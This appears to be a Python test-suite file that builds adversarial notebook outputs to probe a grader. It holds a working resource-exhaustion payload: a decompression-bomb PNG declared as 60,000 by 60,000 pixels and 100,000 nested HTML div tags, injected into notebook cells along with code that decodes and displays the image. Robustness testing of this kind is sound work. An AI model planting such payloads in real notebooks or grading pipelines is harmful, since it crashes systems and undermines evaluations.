# score:    7/10
# survives: grader, others
# why:      outputs that unpack to gigabytes: a picture of 60 000 by 60 000 points, and nested markup

import base64
import struct
import zlib

from tests.attacks.suite import write


def make(folder, lesson, right):
    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    packed = zlib.compress(bytes(30_000_000), 9)
    header = chunk(b"IHDR", struct.pack(">IIBBBBB", 60_000, 60_000, 1, 0, 0, 0, 0))
    png = b"\x89PNG\r\n\x1a\n" + header + chunk(b"IDAT", packed) + chunk(b"IEND", b"")
    data = {"image/png": base64.b64encode(png).decode(), "text/html": "<div>" * 100_000}
    right.cells[1]["outputs"] = [{"output_type": "display_data", "data": data, "metadata": {}}]
    show = "from IPython.display import Image, display\nimport base64\n"
    show += f"display(Image(base64.b64decode({data['image/png']!r})))"
    next(cell for cell in right.cells if cell.id == "double")["source"] += "\n" + show
    write(folder, lesson, right)
